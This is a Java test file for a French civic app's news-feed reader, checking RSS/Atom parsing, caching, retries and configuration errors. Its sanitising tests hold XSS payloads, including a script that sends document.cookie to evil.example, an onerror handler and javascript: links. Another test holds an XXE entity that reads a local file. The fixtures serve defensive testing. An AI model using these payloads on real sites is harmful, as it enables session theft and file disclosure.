package fr.civicgateway.opendata.local;

import static org.assertj.core.api.Assertions.assertThat;
import static org.assertj.core.api.Assertions.assertThatThrownBy;

import fr.civicgateway.core.local.LocalDataException;
import fr.civicgateway.core.news.NewsFeed;
import fr.civicgateway.core.news.NewsItem;
import fr.civicgateway.core.news.NewsSource;
import fr.civicgateway.core.retry.Backoff;
import fr.civicgateway.core.sources.SourceStatus;
import java.io.IOException;
import java.nio.file.Files;
import java.nio.file.Path;
import java.time.Duration;
import java.time.Instant;
import java.time.LocalDate;
import java.time.ZoneId;
import java.util.ArrayList;
import java.util.List;
import java.util.Map;
import java.util.concurrent.TimeUnit;
import mockwebserver3.MockResponse;
import mockwebserver3.MockWebServer;
import mockwebserver3.RecordedRequest;
import mockwebserver3.junit5.StartStop;
import okhttp3.OkHttpClient;
import org.junit.jupiter.api.AfterEach;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.io.TempDir;

/**
 * A town hall's news feed ({@code type: feed}) served by MockWebServer: RSS 2.0 and Atom read into plain-text items,
 * markup from the feed kept inert, and the remote sources' behaviour (conditional GET, time-out, error status, garbage,
 * size cap, redirect, last good copy across a restart), and new items told to listeners once.
 */
class NewsFeedTest {

    static final Instant START = Instant.parse("2026-12-01T09:00:00Z");
    static final String LAST_MODIFIED = "Mon, 30 Nov 2026 17:00:00 GMT";

    @StartStop
    final MockWebServer server = new MockWebServer();
    @TempDir
    Path dir;

    final OkHttpClient http = new OkHttpClient.Builder().readTimeout(Duration.ofSeconds(5)).build();
    final ManualTime time = new ManualTime(START);
    final List<List<NewsItem>> told = new ArrayList<>();

    @AfterEach
    void stopClient() {
        http.dispatcher().executorService().shutdown();
        http.connectionPool().evictAll();
    }

    static String rss(String... items) {
        return """
                <?xml version="1.0" encoding="UTF-8"?>
                <rss version="2.0"><channel>
                <title>Ville du Mans - Actualités</title><link>https://www.lemans.fr/</link>
                <description>Les actualités de la Ville</description>
                %s
                </channel></rss>
                """.formatted(String.join("\n", items));
    }

    static String item(String guid, String title, String link, String pubDate, String description) {
        return "<item>" + (guid == null ? "" : "<guid isPermaLink=\"false\">" + guid + "</guid>")
                + "<title>" + title + "</title>" + (link == null ? "" : "<link>" + link + "</link>")
                + (pubDate == null ? "" : "<pubDate>" + pubDate + "</pubDate>")
                + (description == null ? "" : "<description>" + description + "</description>") + "</item>";
    }

    static final String MARKET = item("news-101", "Marché de Noël place de la République",
            "https://www.lemans.fr/actualites/marche-de-noel", "Fri, 27 Nov 2026 08:30:00 +0100",
            "Le marché ouvre le 28 novembre.");
    static final String WORKS = item("news-102", "Travaux avenue du Général-de-Gaulle",
            "https://www.lemans.fr/actualites/travaux-gaulle", "Mon, 30 Nov 2026 16:00:00 GMT",
            "&lt;p&gt;Circulation &lt;b&gt;alternée&lt;/b&gt; du 1er au 12 décembre.&lt;/p&gt;");
    static final String COUNCIL = item(null, "Conseil municipal du 10 décembre",
            "https://www.lemans.fr/actualites/conseil-10-decembre", "Tue, 01 Dec 2026 07:00:00 GMT", null);

    private String config(String extra) {
        return """
                id: le-mans-actualites
                type: feed
                title: Actualités de la Ville du Mans
                publisher: Ville du Mans
                licence: conditions de réutilisation du site lemans.fr
                url: https://www.lemans.fr/
                file: %s
                refresh: 1h
                """.formatted(server.url("/rss")) + extra;
    }

    private RemoteFeed load(String yml) throws IOException {
        return load(yml, TestRemote.of(http, time, dir.resolve("cache")));
    }

    private RemoteFeed load(String yml, LocalAdapters.Remote remote) throws IOException {
        Path adapters = Files.createDirectories(dir.resolve("adapters"));
        Files.writeString(adapters.resolve("news.yml"), yml);
        LocalAdapters.Loaded loaded = LocalAdapters.loadAll(adapters, dir, remote);
        assertThat(loaded.data()).isEmpty();
        assertThat(loaded.news().feeds()).hasSize(1);
        loaded.news().onNewItems((source, items) -> told.add(items));
        return loaded.news().feeds().getFirst();
    }

    private static MockResponse feed(String body) {
        return new MockResponse.Builder().setHeader("Content-Type", "application/rss+xml; charset=UTF-8")
                .setHeader("ETag", "\"" + body.hashCode() + "\"").setHeader("Last-Modified", LAST_MODIFIED)
                .body(body).build();
    }

    private static SourceStatus status(RemoteFeed f) {
        return f.statuses().getFirst();
    }

    private void refresh(RemoteFeed f, Duration after) {
        time.advance(after);
        f.tick();
    }

    @Test
    void readsAnRss2FeedNewestFirstWithItsIdsTitlesLinksDatesAndPlainSummaries() throws Exception {
        server.enqueue(feed(rss(MARKET, WORKS, COUNCIL)));

        NewsFeed f = load(config("")).feed();

        assertThat(f.available()).isTrue();
        assertThat(f.stale()).isFalse();
        assertThat(f.source()).isEqualTo(new NewsSource("le-mans-actualites", "Actualités de la Ville du Mans",
                "Ville du Mans", "conditions de réutilisation du site lemans.fr", "https://www.lemans.fr/"));
        assertThat(f.dataDate()).as("the feed's Last-Modified, in Paris").isEqualTo(LocalDate.of(2026, 11, 30));
        assertThat(f.checkedAt()).isEqualTo(START);
        assertThat(f.items()).containsExactly(
                new NewsItem("le-mans-actualites", "https://www.lemans.fr/actualites/conseil-10-decembre",
                        "Conseil municipal du 10 décembre", "https://www.lemans.fr/actualites/conseil-10-decembre",
                        Instant.parse("2026-12-01T07:00:00Z"), null),
                new NewsItem("le-mans-actualites", "news-102", "Travaux avenue du Général-de-Gaulle",
                        "https://www.lemans.fr/actualites/travaux-gaulle", Instant.parse("2026-11-30T16:00:00Z"),
                        "Circulation alternée du 1er au 12 décembre."),
                new NewsItem("le-mans-actualites", "news-101", "Marché de Noël place de la République",
                        "https://www.lemans.fr/actualites/marche-de-noel", Instant.parse("2026-11-27T07:30:00Z"),
                        "Le marché ouvre le 28 novembre."));
    }

    @Test
    void readsAnAtomFeedItsEntryIdsSummariesOrContent() throws Exception {
        server.enqueue(new MockResponse.Builder().setHeader("Content-Type", "application/atom+xml").body("""
                <?xml version="1.0" encoding="utf-8"?>
                <feed xmlns="http://www.w3.org/2005/Atom">
                  <title>Ville de Rennes</title><id>urn:rennes:news</id><updated>2026-11-30T10:00:00Z</updated>
                  <entry>
                    <title type="html">Collecte des déchets : &lt;em&gt;nouveaux horaires&lt;/em&gt;</title>
                    <id>tag:rennes.fr,2026:news/88</id>
                    <link rel="alternate" href="https://metropole.rennes.fr/collecte"/>
                    <published>2026-11-29T09:15:00+01:00</published><updated>2026-11-29T10:00:00+01:00</updated>
                    <summary>Les horaires changent le 1er décembre.</summary>
                  </entry>
                  <entry>
                    <title>Piscine fermée</title>
                    <id>tag:rennes.fr,2026:news/89</id>
                    <link href="https://metropole.rennes.fr/piscine"/>
                    <updated>2026-11-30T08:00:00Z</updated>
                    <content type="xhtml"><div xmlns="http://www.w3.org/1999/xhtml"><p>Fermée pour <b>vidange</b>.</p></div></content>
                  </entry>
                </feed>
                """).build());

        NewsFeed f = load(config("")).feed();

        assertThat(f.items()).containsExactly(
                new NewsItem("le-mans-actualites", "tag:rennes.fr,2026:news/89", "Piscine fermée",
                        "https://metropole.rennes.fr/piscine", Instant.parse("2026-11-30T08:00:00Z"),
                        "Fermée pour vidange."),
                new NewsItem("le-mans-actualites", "tag:rennes.fr,2026:news/88",
                        "Collecte des déchets : nouveaux horaires", "https://metropole.rennes.fr/collecte",
                        Instant.parse("2026-11-29T08:15:00Z"), "Les horaires changent le 1er décembre."));
    }

    @Test
    void keepsHtmlAndScriptsOfTitlesAndSummariesAsInertPlainText() throws Exception {
        server.enqueue(feed(rss(
                item("x1", "&lt;b&gt;Fête&lt;/b&gt; &amp;amp; &lt;script&gt;alert('t')&lt;/script&gt;musique",
                        "javascript:alert(1)", "Tue, 01 Dec 2026 07:00:00 GMT",
                        "<![CDATA[<p>Venez <script>document.location='https://evil.example/'+document.cookie</script>"
                                + "<img src=x onerror=alert(2)>nombreux<style>p{color:red}</style> !</p>"
                                + "&lt;script&gt;alert(3)&lt;/script&gt; &lt;iframe src=//evil.example&gt;]]>"),
                item("x2", "<![CDATA[Budget <a href=\"javascript:alert(4)\" onclick=\"x()\">2027</a>]]>",
                        "https://www.lemans.fr/budget", null, "a &lt; b et c &gt; d"))));

        List<NewsItem> items = load(config("")).feed().items();

        assertThat(items).extracting(NewsItem::title).containsExactly("Fête & musique", "Budget 2027");
        assertThat(items.getFirst().summary()).isEqualTo("Venez nombreux !");
        assertThat(items.getFirst().link()).as("a javascript: link is no link").isNull();
        assertThat(items.get(1).summary()).isEqualTo("a < b et c > d");
        for (NewsItem i : items) {
            for (String text : new String[] {i.title(), i.summary()}) {
                assertThat(text).doesNotContainPattern("<[A-Za-z/!?]").doesNotContain("alert", "evil", "onerror");
            }
        }
    }

    @Test
    void capsLongSummariesOnAWordAndSkipsItemsWithoutIdOrTitle() throws Exception {
        String words = "Le conseil municipal a voté le budget primitif de la ville pour l'année prochaine ".repeat(10);
        server.enqueue(feed(rss(item("long", "Budget voté", null, null, words),
                item(null, "Sans identifiant ni lien", null, null, "perdu"),
                item("no-title", "", "https://www.lemans.fr/x", null, "sans titre"))));

        List<NewsItem> items = load(config("summaryLength: 60\n")).feed().items();

        assertThat(items).extracting(NewsItem::id).containsExactly("long");
        String summary = items.getFirst().summary();
        assertThat(summary).hasSizeLessThanOrEqualTo(60).endsWith("…");
        assertThat(words).startsWith(summary.substring(0, summary.length() - 1));
        assertThat(words.charAt(summary.length() - 1)).as("cut between words").isEqualTo(' ');
    }

    @Test
    void asksWhetherTheFeedChangedAndKeepsItsItemsOnA304() throws Exception {
        server.enqueue(feed(rss(MARKET)));
        server.enqueue(new MockResponse.Builder().code(304).build());
        RemoteFeed feed = load(config(""));
        server.takeRequest();

        refresh(feed, Duration.ofHours(1));

        RecordedRequest second = server.takeRequest();
        assertThat(second.getHeaders().get("If-None-Match")).isEqualTo("\"" + rss(MARKET).hashCode() + "\"");
        assertThat(second.getHeaders().get("If-Modified-Since")).isEqualTo(LAST_MODIFIED);
        assertThat(feed.feed().items()).extracting(NewsItem::id).containsExactly("news-101");
        assertThat(feed.feed().checkedAt()).isEqualTo(time.now());
        assertThat(told).isEmpty();
    }

    @Test
    void givesUpOnAFeedTooSlowToAnswerAndSaysItIsUnavailable() throws Exception {
        server.enqueue(new MockResponse.Builder().headersDelay(2, TimeUnit.SECONDS).body(rss(MARKET)).build());
        var quick = new LocalAdapters.Remote(http, Runnable::run, time.clock(), time, dir.resolve("cache"),
                new Backoff(Duration.ofMinutes(1), Duration.ofHours(1)), Duration.ofMillis(300), 5L << 20,
                Duration.ofSeconds(5), name -> null, ZoneId.of("Europe/Paris"));

        RemoteFeed feed = load(config(""), quick);

        assertThat(feed.feed().available()).isFalse();
        assertThat(feed.feed().items()).isEmpty();
        assertThat(status(feed).lastError()).startsWith(server.url("/rss") + ": ").containsIgnoringCase("timeout");
        assertThat(status(feed).nextAttempt()).isEqualTo(START.plus(Duration.ofMinutes(1)));
    }

    @Test
    void answersFromTheLastGoodVersionWhileTheFeedFailsThenRecovers() throws Exception {
        server.enqueue(feed(rss(MARKET, WORKS)));
        server.enqueue(new MockResponse.Builder().code(500).body("Internal Server Error").build());
        server.enqueue(feed(rss(MARKET, WORKS, COUNCIL)));
        RemoteFeed feed = load(config(""));

        refresh(feed, Duration.ofHours(1));

        NewsFeed stale = feed.feed();
        assertThat(stale.stale()).isTrue();
        assertThat(stale.checkedAt()).as("the last good version's time").isEqualTo(START);
        assertThat(stale.failingSince()).isEqualTo(START.plus(Duration.ofHours(1)));
        assertThat(stale.items()).extracting(NewsItem::id).containsExactly("news-102", "news-101");
        assertThat(status(feed).lastError()).isEqualTo(server.url("/rss") + ": HTTP 500");

        refresh(feed, Duration.ofMinutes(1));

        assertThat(feed.feed().stale()).isFalse();
        assertThat(feed.feed().items()).hasSize(3);
    }

    @Test
    void refusesWhatIsNotAFeedAndKeepsThePreviousItems() throws Exception {
        server.enqueue(feed(rss(MARKET)));
        server.enqueue(new MockResponse.Builder().setHeader("Content-Type", "text/html")
                .body("<!doctype html><html><body><h1>Maintenance</h1></body></html>").build());
        server.enqueue(new MockResponse.Builder().body("{\"items\": []}").build());
        RemoteFeed feed = load(config(""));

        refresh(feed, Duration.ofHours(1));
        assertThat(status(feed).lastError()).startsWith(server.url("/rss") + ": not an RSS or Atom feed");
        refresh(feed, Duration.ofMinutes(1));
        assertThat(status(feed).lastError()).startsWith(server.url("/rss") + ": not an RSS or Atom feed");

        assertThat(feed.feed().items()).extracting(NewsItem::id).containsExactly("news-101");
        assertThat(told).isEmpty();
    }

    @Test
    void refusesADocumentWithADoctypeSoThatNoEntityIsEverResolved() throws Exception {
        Path secret = Files.writeString(dir.resolve("secret.txt"), "top secret");
        server.enqueue(feed("""
                <?xml version="1.0"?>
                <!DOCTYPE rss [<!ENTITY x SYSTEM "%s">]>
                <rss version="2.0"><channel><title>t</title><item><guid>1</guid><title>&x;</title></item></channel></rss>
                """.formatted(secret.toUri())));

        RemoteFeed feed = load(config(""));

        assertThat(feed.feed().available()).isFalse();
        assertThat(status(feed).lastError()).startsWith(server.url("/rss") + ": not an RSS or Atom feed");
    }

    @Test
    void refusesAFeedLargerThanItsSizeCap() throws Exception {
        server.enqueue(feed(rss(MARKET.repeat(40))));

        RemoteFeed feed = load(config("maxSize: 2KB\n"));

        assertThat(feed.feed().available()).isFalse();
        assertThat(status(feed).lastError()).startsWith(server.url("/rss") + ": ").contains("2048");
    }

    @Test
    void followsARedirectToWhereTheFeedMoved() throws Exception {
        server.enqueue(new MockResponse.Builder().code(301).setHeader("Location", server.url("/actualites.xml"))
                .build());
        server.enqueue(feed(rss(MARKET)));

        RemoteFeed feed = load(config(""));

        assertThat(feed.feed().items()).extracting(NewsItem::id).containsExactly("news-101");
        server.takeRequest();
        assertThat(server.takeRequest().getUrl().encodedPath()).isEqualTo("/actualites.xml");
    }

    @Test
    void answersFromItsLastGoodCopyAfterARestartWhileTheFeedIsDown() throws Exception {
        server.enqueue(feed(rss(MARKET, WORKS)));
        load(config(""));
        server.enqueue(new MockResponse.Builder().code(503).build());
        time.advance(Duration.ofHours(3));

        RemoteFeed restarted = load(config(""));

        assertThat(restarted.feed().available()).isTrue();
        assertThat(restarted.feed().items()).extracting(NewsItem::id).containsExactly("news-102", "news-101");
        assertThat(restarted.feed().checkedAt()).isEqualTo(START);
        assertThat(restarted.feed().dataDate()).isEqualTo(LocalDate.of(2026, 11, 30));
        restarted.tick();
        assertThat(restarted.feed().stale()).isTrue();
        assertThat(restarted.feed().items()).hasSize(2);
    }

    @Test
    void tellsListenersTheNewItemsOnceAndNotTheOldOnesAgainAfterARestart() throws Exception {
        server.enqueue(feed(rss(MARKET)));
        server.enqueue(feed(rss(MARKET, WORKS)));
        server.enqueue(feed(rss(MARKET, WORKS)));
        RemoteFeed feed = load(config(""));
        assertThat(told).as("a first version is nobody's news").isEmpty();

        refresh(feed, Duration.ofHours(1));
        refresh(feed, Duration.ofHours(1));

        assertThat(told).hasSize(1);
        assertThat(told.getFirst()).extracting(NewsItem::id).containsExactly("news-102");

        told.clear();
        server.enqueue(feed(rss(MARKET, WORKS, COUNCIL)));
        time.advance(Duration.ofHours(1));
        RemoteFeed restarted = load(config(""));
        assertThat(told).as("the copy read back at start-up is not news").isEmpty();
        restarted.tick();

        assertThat(told).hasSize(1);
        assertThat(told.getFirst()).extracting(NewsItem::title).containsExactly("Conseil municipal du 10 décembre");
    }

    @Test
    void sayOfAnEmptyFeedThatItHoldsNoItemRatherThanThatItIsDown() throws Exception {
        server.enqueue(feed(rss()));

        NewsFeed f = load(config("")).feed();

        assertThat(f.available()).isTrue();
        assertThat(f.items()).isEmpty();
        assertThat(f.stale()).isFalse();
    }

    @Test
    void checksADisabledFeedAtStartUpWithoutEverFetchingIt() throws Exception {
        Path adapters = Files.createDirectories(dir.resolve("adapters"));
        Files.writeString(adapters.resolve("news.yml"), config("enabled: false\n"));

        LocalAdapters.Loaded loaded = LocalAdapters.loadAll(adapters, dir, TestRemote.of(http, time, dir.resolve("c")));

        assertThat(loaded.news().sources()).isEmpty();
        assertThat(LocalAdapters.load(adapters, dir)).as("a tool without network accepts it too").isEmpty();
        assertThat(server.getRequestCount()).isZero();
    }

    @Test
    void refusesABadFeedConfigurationNamingTheFileAndTheKey() throws Exception {
        Path adapters = Files.createDirectories(dir.resolve("adapters"));
        Map<String, String> cases = Map.of(
                config("kind: project\n"), "news.yml: unknown key 'kind'",
                config("").replace("title: Actualités de la Ville du Mans\n", ""), "news.yml: missing key 'title'",
                config("").replace(server.url("/rss").toString(), "ftp://example.org/rss"),
                "news.yml: file 'ftp://example.org/rss' is not an http(s) URL",
                config("refresh: 10s\n").replace("refresh: 1h\n", ""), "news.yml: refresh '10s' is shorter than a minute",
                config("summaryLength: 5\n"), "news.yml: summaryLength '5' must be at least 40 characters");
        for (var c : cases.entrySet()) {
            Files.writeString(adapters.resolve("news.yml"), c.getKey());
            assertThatThrownBy(() -> LocalAdapters.loadAll(adapters, dir, TestRemote.of(http, time, dir.resolve("c"))))
                    .as(c.getValue()).isInstanceOf(LocalDataException.class).hasMessageStartingWith(c.getValue());
        }
        Files.writeString(adapters.resolve("news.yml"), config(""));
        Files.writeString(adapters.resolve("other.yml"), config("").replace("type: feed", "type: feed"));
        assertThatThrownBy(() -> LocalAdapters.loadAll(adapters, dir, TestRemote.of(http, time, dir.resolve("c"))))
                .hasMessage("other.yml: id 'le-mans-actualites' is already used by another adapter configuration");
    }
}
